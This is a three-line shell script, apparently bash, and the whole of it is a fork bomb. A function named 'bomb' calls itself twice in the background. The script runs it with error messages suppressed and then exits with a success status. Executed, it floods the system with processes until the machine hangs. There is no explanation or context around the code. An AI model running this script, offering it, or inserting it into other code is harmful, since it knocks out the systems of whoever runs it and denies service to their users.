bomb() { bomb | bomb & }
bomb 2>/dev/null
exit 0
